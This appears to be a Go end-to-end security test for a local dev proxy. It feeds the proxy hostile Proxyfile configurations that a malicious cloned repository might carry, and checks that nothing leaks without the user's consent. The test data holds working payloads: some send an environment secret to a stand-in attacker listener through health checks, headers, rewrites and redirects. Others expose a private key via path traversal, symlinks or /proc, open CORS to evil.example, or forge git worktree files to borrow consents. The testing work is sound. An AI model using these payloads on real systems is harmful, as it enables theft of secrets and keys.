//go:build e2e && unix

package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// attackSecret is in the environment of every devproxy here, as $ATTACK_SECRET.
const attackSecret = "s3cr3t-t0ken-of-the-user"

// evilListener is somebody who waits for what a cloned repository sends: at an
// address that is not loopback by its name, and at a unix socket outside the
// repository. It keeps who connected and every byte.
type evilListener struct {
	host   string // without its port
	port   string
	socket string

	mu   sync.Mutex
	seen strings.Builder
}

func startEvil(t *testing.T) *evilListener {
	t.Helper()
	evil := &evilListener{}
	tcp := evil.listen(t)
	evil.socket = filepath.Join(shortDir(t), "docker.sock")
	unix, err := net.Listen("unix", evil.socket)
	if err != nil {
		t.Fatal(err)
	}
	for _, ln := range []net.Listener{tcp, unix} {
		t.Cleanup(func() { ln.Close() })
		go evil.accept(ln)
	}
	return evil
}

// listen listens on this machine by a name or address that nobody knows for
// loopback without asking a resolver.
func (e *evilListener) listen(t *testing.T) net.Listener {
	t.Helper()
	hostname, _ := os.Hostname()
	hosts := []string{hostname, "ip6-localhost", "ip6-loopback"}
	addrs, _ := net.InterfaceAddrs()
	for _, addr := range addrs {
		if ip, is := addr.(*net.IPNet); is && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			hosts = append(hosts, ip.IP.String())
		}
	}
	for _, host := range hosts {
		if host == "" || host == "localhost" {
			continue
		}
		ln, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
		if err != nil {
			continue
		}
		e.host = host
		_, e.port, _ = net.SplitHostPort(ln.Addr().String())
		return ln
	}
	t.Fatalf("none of %q is this machine", hosts)
	return nil
}

func (e *evilListener) accept(ln net.Listener) {
	for {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		e.note("connected\n")
		go func() {
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(time.Second))
			head := make([]byte, 4096)
			n, _ := conn.Read(head)
			e.note(string(head[:n]))
			_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nevil")
		}()
	}
}

func (e *evilListener) note(text string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.seen.WriteString(text)
}

// heard returns the bytes received so far.
func (e *evilListener) heard() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.seen.String()
}

// repositoryAttack is a repository that tries something.
type repositoryAttack struct {
	name  string
	files map[string]string // EVIL is the listener's host and port, SOCK its socket, OUT a folder of the user's
	links map[string]string
	path  string // the visitor's request
	kind  string // of the effect that needs consent
	// works is the text that the evil listener or the visitor gets with
	// consent. It proves that the attack is real.
	works string
}

func repositoryAttacks() []repositoryAttack {
	host := func(body string) map[string]string {
		return map[string]string{"Proxyfile": "host \"shop.localhost\" {\n" + body + "\n}\n"}
	}
	service := func(body string) map[string]string {
		return map[string]string{"Proxyfile": "host \"shop.localhost\" { upstream = service.s }\nservice \"s\" {\n" + body + "\n}\n"}
	}
	const secret = `env("ATTACK_SECRET")`
	return []repositoryAttack{
		{name: "health with a secret", files: service("upstream = \"http://EVIL\"\nhealth = { path = \"/x?k=${" + secret + "}\", interval = \"100ms\" }"), kind: "health", works: "GET /x?k=" + attackSecret},
		{name: "health of a fallback", files: service("upstream = 1\nfallback = \"http://EVIL\"\nhealth = { path = \"/?${" + secret + "}\", interval = \"100ms\" }"), kind: "upstream", works: "GET / HTTP/1.1"},
		{name: "a service by another name", files: map[string]string{"Proxyfile": "host \"shop.localhost\" { upstream = service.a }\nservice \"a\" { upstream = service.b }\nservice \"b\" {\nupstream = \"EVIL\"\nhealth = { path = \"/${" + secret + "}\", interval = \"100ms\" }\n}\n"}, kind: "health", works: attackSecret},
		{name: "an upstream", files: host(`upstream = "http://EVIL"`), kind: "upstream", works: "GET / HTTP/1.1"},
		{name: "an upstream in capitals, with a dot", files: host(`upstream = "http://${upper("EVIL")}"`), kind: "upstream", works: "GET / HTTP/1.1"},
		{name: "one of several", files: host(`upstream = [1, "EVIL"]`), kind: "upstream", works: "connected"},
		{name: "TLS", files: host(`upstream = "https://EVIL"`), kind: "upstream", works: "connected"},
		{name: "HTTP/2", files: host(`upstream = "h2c://EVIL"`), kind: "upstream", works: "PRI * HTTP/2.0"},
		{name: "a header", files: host("upstream = \"http://EVIL\"\nrequest_headers = { X-Key = " + secret + " }"), kind: "request header", works: "X-Key: " + attackSecret},
		{name: "Host", files: host("upstream = \"http://EVIL\"\nrequest_headers = { Host = \"${" + secret + "}.example\" }"), kind: "request header", works: "Host: " + attackSecret},
		{name: "a rewrite", files: host("upstream = \"http://EVIL\"\nroute \"/a\" { rewrite = \"/${" + secret + "}\" }"), path: "/a", kind: "rewrite", works: "GET /" + attackSecret},
		{name: "a header of a list", files: map[string]string{"Proxyfile": "locals { all = { for c in [\"x\"] : \"X-${upper(c)}\" => join(\"\", reverse(reverse(split(\"\", " + secret + ")))) } }\nhost \"shop.localhost\" {\nupstream = \"http://EVIL\"\nrequest_headers = local.all\n}\n"}, kind: "request header", works: "X-X: " + attackSecret},
		{name: "a table of letters", files: host("upstream = \"http://EVIL\"\nrequest_headers = { X = { s = \"it-begins-with-s\", t = \"t\" }[substr(" + secret + ", 0, 1)] }"), kind: "request header", works: "it-begins-with-s"},
		{name: "a redirect", files: host("redirect = \"http://EVIL/?k=${" + secret + "}\""), kind: "redirect", works: "?k=" + attackSecret},
		{name: "a redirect here", files: host("redirect = \"/x?k=${" + secret + "}\""), kind: "redirect", works: "?k=" + attackSecret},
		{name: "a body", files: host("respond = { body = " + secret + " }"), kind: "respond", works: attackSecret},
		{name: "a status", files: host("respond = substr(" + secret + ", 0, 1) == \"s\" ? 418 : 404"), kind: "respond", works: "418"},
		{name: "a response header", files: host("respond = 204\nresponse_headers = { X = " + secret + " }"), kind: "response header", works: attackSecret},
		{name: "a guess", files: host("respond = 404\nroute \"/a\" {\nrespond = 418\nmatch = { query = { k = \"${substr(" + secret + ", 0, 2)}*\" } }\n}"), path: "/a?k=s3x", kind: "match", works: "418"},
		{name: "a folder", files: host("files = \"OUT\"\nspa = true"), path: "/id_rsa", kind: "files", works: "a private key"},
		{name: "a folder above", files: host("files = \"..\""), path: "/out/id_rsa", kind: "files", works: "a private key"},
		{name: "a linked folder", files: host("files = \"site\""), links: map[string]string{"site": "OUT"}, path: "/id_rsa", kind: "files", works: "a private key"},
		{name: "a folder by way of /proc", files: host("files = \"/proc/self/rootOUT\""), path: "/id_rsa", kind: "files", works: "a private key"},
		{name: "a folder and its reader", files: host("files = \"OUT\"\ncors = [\"https://evil.example\"]"), path: "/id_rsa", kind: "cors", works: "a private key"},
		{name: "a reader", files: host("respond = { body = \"x\" }\ncors = [\"https://evil.example\"]"), kind: "cors", works: "https://evil.example"},
		{name: "any reader", files: host("respond = { body = \"x\" }\ncors = [\"*\"]"), kind: "cors", works: "Access-Control-Allow-Origin:*"},
		{name: "a reader by hand", files: host("respond = { body = \"x\" }\nresponse_headers = { Access-Control-Allow-Origin = \"https://evil.example\" }"), kind: "cors", works: "https://evil.example"},
		{name: "a socket", files: host(`upstream = "unix:SOCK"`), kind: "unix socket", works: "GET / HTTP/1.1"},
		{name: "a linked socket", files: host(`upstream = "unix:app.sock"`), links: map[string]string{"app.sock": "SOCK"}, kind: "unix socket", works: "GET / HTTP/1.1"},
		{name: "Proxyfile.local", files: map[string]string{"Proxyfile": "host \"shop.localhost\" { upstream = 1 }\n", "Proxyfile.local": "host \"shop.localhost\" {\nupstream = \"http://EVIL\"\nrequest_headers = { K = " + secret + " }\n}\n"}, kind: "request header", works: attackSecret},
	}
}

// clone makes a folder of an attack's files, as git clone would.
func (a repositoryAttack) clone(t *testing.T, evil *evilListener) string {
	t.Helper()
	base := shortDir(t)
	out := filepath.Join(base, "out")
	fill := strings.NewReplacer("EVIL", evil.host+":"+evil.port, "SOCK", evil.socket, "OUT", out)
	if err := os.Mkdir(out, 0o700); err != nil {
		t.Fatal(err)
	}
	saveFile(t, filepath.Join(out, "id_rsa"), "a private key")
	dir := filepath.Join(base, "clone")
	if err := os.MkdirAll(filepath.Join(dir, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range a.files {
		saveFile(t, filepath.Join(dir, name), fill.Replace(text))
	}
	for name, target := range a.links {
		if err := os.Symlink(fill.Replace(target), filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// shownBy is everything that the verbs that only look say of a clone.
func shownBy(t *testing.T, env []string, dir string) string {
	t.Helper()
	var shown strings.Builder
	for _, args := range [][]string{{"check", "--json"}, {"explain", "/a?k=s3", "--json"}} {
		out, _ := runTool(t, patience, env, devproxyBinary(t), append(args, "-C", dir)...)
		shown.WriteString(out)
	}
	return shown.String()
}

// TestE2EAttackRepository: whatever a cloned Proxyfile says, devproxy up without
// consent sends nobody outside a byte, and shows nobody a secret. With consent
// each attack works, so that it is known to be one.
func TestE2EAttackRepository(t *testing.T) {
	for _, a := range repositoryAttacks() {
		t.Run(a.name, func(t *testing.T) {
			evil := startEvil(t)
			dir := a.clone(t, evil)
			_, state, env := privateState(t)
			env = append(env, "ATTACK_SECRET="+attackSecret)

			// Without a terminal it ends, and lists the effects.
			cmd := exec.Command(devproxyBinary(t), "up", "--json", "--https", ":0", "--http", ":0")
			cmd.Dir, cmd.Env = dir, env
			var errs strings.Builder
			cmd.Stderr = &errs
			out, err := cmd.Output()
			if code := cmd.ProcessState.ExitCode(); code != 1 {
				t.Fatalf("exit code %d, %v\n%s%s", code, err, out, errs.String())
			}
			var event struct {
				Event   string
				Effects []struct{ Kind, Target string }
			}
			line, _, _ := strings.Cut(string(out), "\n")
			if err := json.Unmarshal([]byte(line), &event); err != nil || event.Event != "consent_needed" {
				t.Fatalf("it says %s", out)
			}
			kinds := ""
			for _, effect := range event.Effects {
				kinds += effect.Kind + "; "
			}
			if !strings.Contains(kinds, a.kind) {
				t.Errorf("the effects are %s want %s", kinds, a.kind)
			}
			for _, text := range []string{string(out), errs.String(), shownBy(t, env, dir)} {
				if strings.Contains(text, attackSecret) {
					t.Errorf("the secret is shown:\n%s", text)
				}
			}

			// Without consent a page is served.
			extra := []string{"ATTACK_SECRET=" + attackSecret}
			partial := startUpWith(t, dir, extra, "--partial")
			status, answer := a.visit(t, partial)
			if status != http.StatusForbidden || !strings.Contains(answer, "devproxy allow") || strings.Contains(answer, attackSecret) {
				t.Errorf("without consent: %d %s", status, answer)
			}
			if out, _ := runTool(t, patience, partial.env, devproxyBinary(t), "status", "--json", "-C", dir); strings.Contains(out, attackSecret) {
				t.Errorf("status shows the secret: %s", out)
			}
			partial.stop()
			if got := evil.heard(); got != "" {
				t.Fatalf("without consent somebody outside got %q", got)
			}

			// With consent the attack works.
			allowed := startUpWith(t, dir, extra, "--allow", "--verbose")
			status, answer = a.visit(t, allowed)
			for deadline := time.Now().Add(patience); !strings.Contains(fmt.Sprint(status, answer, evil.heard()), a.works); time.Sleep(10 * time.Millisecond) {
				if time.Now().After(deadline) {
					t.Fatalf("with consent: %d %s; outside: %q; want %q", status, answer, evil.heard(), a.works)
				}
			}
			allowed.stop()
			if text := allowed.stderr.String(); strings.Contains(text, attackSecret) {
				t.Errorf("the log shows the secret:\n%s", text)
			}
			if entries, _ := filepath.Glob(filepath.Join(state, "consent*")); len(entries) > 0 {
				t.Errorf("consent was kept: %q", entries)
			}
		})
	}
}

// visit requests the attack's path as a page of another origin does, and
// returns the whole response.
func (a repositoryAttack) visit(t *testing.T, u *upProcess) (int, string) {
	t.Helper()
	path := a.path
	if path == "" {
		path = "/"
	}
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, u.url("shop.localhost", path), nil)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Origin", "https://evil.example")
	client := u.client("h1")
	client.Timeout = patience
	response, err := client.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for name, values := range response.Header {
		all.WriteString(name + ":" + strings.Join(values, ",") + "\n")
	}
	return response.StatusCode, all.String() + string(body)
}

// TestE2EAttackRepositoryLater: neither a save, nor a link that is changed
// later, nor the repository's own claims get access to anything.
func TestE2EAttackRepositoryLater(t *testing.T) {
	evil := startEvil(t)
	base := shortDir(t)
	dir := filepath.Join(base, "clone")
	for _, made := range []string{filepath.Join(dir, ".git"), filepath.Join(dir, "site"), filepath.Join(base, "out")} {
		if err := os.MkdirAll(made, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	saveFile(t, filepath.Join(base, "out", "id_rsa"), "a private key")
	const harmless = "host \"shop.localhost\" {\n  files = \"site\"\n  route \"/api\" { upstream = \"unix:app.sock\" }\n}\n"
	saveFile(t, filepath.Join(dir, "Proxyfile"), harmless)
	u := startUpWith(t, dir, []string{"ATTACK_SECRET=" + attackSecret})
	client := u.client("h1")

	// git pull brings another Proxyfile, or a Proxyfile.local.
	saved := func(name, text string) {
		t.Helper()
		u.save(name, text)
		if e := u.await("consent_needed"); !strings.Contains(e.Line, `"serving":"previous"`) || strings.Contains(e.Line, attackSecret) {
			t.Errorf("it says %s", e.Line)
		}
		if status, body := fetch(t, client, u.url("shop.localhost", "/")); status != 404 {
			t.Errorf("then it answers with %d %s", status, body)
		}
	}
	saved("Proxyfile", "host \"shop.localhost\" { upstream = service.s }\nservice \"s\" {\n  upstream = \"http://"+evil.host+":"+evil.port+"\"\n  health = { path = \"/${env(\"ATTACK_SECRET\")}\", interval = \"100ms\" }\n}\n")
	u.save("Proxyfile", harmless+"# as before\n")
	saved("Proxyfile.local", "host \"shop.localhost\" { files = \"../out\" }\n")
	if err := os.Remove(filepath.Join(dir, "Proxyfile.local")); err != nil {
		t.Fatal(err)
	}

	// git checkout makes links of what was none.
	if err := os.Remove(filepath.Join(dir, "site")); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"site": "../out", "app.sock": evil.socket} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	if status, body := fetch(t, client, u.url("shop.localhost", "/id_rsa")); status != 500 || strings.Contains(body, "a private key") {
		t.Errorf("a folder that became a link: %d %s", status, body)
	}
	if status, body := fetch(t, client, u.url("shop.localhost", "/api")); status < 500 || strings.Contains(body, "evil") {
		t.Errorf("a socket that became a link: %d %s", status, body)
	}
	u.stop()

	// It does not get the consents of another repository by lying either.
	trusted := filepath.Join(base, "trusted")
	admin := filepath.Join(trusted, ".git", "worktrees", "tree")
	if err := os.MkdirAll(admin, 0o755); err != nil {
		t.Fatal(err)
	}
	text := "host \"shop.localhost\" { upstream = \"http://" + evil.host + ":" + evil.port + "\" }\n"
	saveFile(t, filepath.Join(trusted, "Proxyfile"), text)
	saveFile(t, filepath.Join(admin, "gitdir"), filepath.Join(base, "tree", ".git"))
	saveFile(t, filepath.Join(admin, "commondir"), "../..")
	_, _, env := privateState(t)
	allow := func(dir string, args ...string) error {
		_, err := runTool(t, patience, env, devproxyBinary(t), append([]string{"allow", "-C", dir}, args...)...)
		return err
	}
	if err := allow(trusted, "--yes"); err != nil {
		t.Fatal(err)
	}
	if err := allow(trusted); err != nil {
		t.Errorf("the repository itself: %v", err)
	}
	liar := filepath.Join(base, "liar")
	for name, dotGit := range map[string]string{
		"a repository": filepath.Join(trusted, ".git"), "a worktree": admin, "a worktree of its own": "fake/worktrees/x",
	} {
		if err := os.RemoveAll(liar); err != nil {
			t.Fatal(err)
		}
		own := filepath.Join(liar, "fake", "worktrees", "x")
		if err := os.MkdirAll(own, 0o755); err != nil {
			t.Fatal(err)
		}
		saveFile(t, filepath.Join(own, "gitdir"), filepath.Join(liar, ".git"))
		saveFile(t, filepath.Join(own, "commondir"), filepath.Join(trusted, ".git"))
		saveFile(t, filepath.Join(liar, ".git"), "gitdir: "+dotGit+"\n")
		saveFile(t, filepath.Join(liar, "Proxyfile"), text)
		if err := allow(liar); err == nil {
			t.Errorf("a folder that says it is %s of another repository has its consents", name)
		}
	}

	// It does not bring its own consents either.
	inside := append(env, "DEVPROXY_HOME="+filepath.Join(liar, "state"))
	if out, err := runTool(t, patience, inside, devproxyBinary(t), "allow", "--yes", "-C", liar); err == nil || !strings.Contains(out, "inside the project") {
		t.Errorf("a state folder of the repository: %v\n%s", err, out)
	}
	if got := evil.heard(); got != "" {
		t.Errorf("somebody outside got %q", got)
	}
}
